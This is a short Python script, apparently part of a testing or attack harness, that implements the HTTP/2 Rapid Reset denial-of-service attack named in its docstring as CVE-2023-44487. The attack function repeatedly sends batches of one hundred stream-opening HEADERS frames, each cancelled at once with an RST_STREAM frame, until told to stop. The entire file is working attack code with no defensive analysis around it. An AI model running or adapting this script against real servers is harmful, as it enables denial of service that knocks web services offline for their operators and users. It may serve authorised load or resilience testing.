#!/usr/bin/python3
"""HTTP/2 rapid reset (CVE-2023-44487): opens streams without end and takes each back at once."""

from stranger import CANCEL, END_HEADERS, HEADERS, REQUEST, RST_STREAM, frame, main


def attack(connection, over):
    stream = 1
    while not over() and stream < 2**31:
        frames = []
        for _ in range(100):
            frames.append(frame(HEADERS, END_HEADERS, stream, REQUEST))
            frames.append(frame(RST_STREAM, 0, stream, CANCEL.to_bytes(4, "big")))
            stream += 2
        connection.send(*frames)
        connection.read(0)


if __name__ == "__main__":
    main(attack, __doc__)
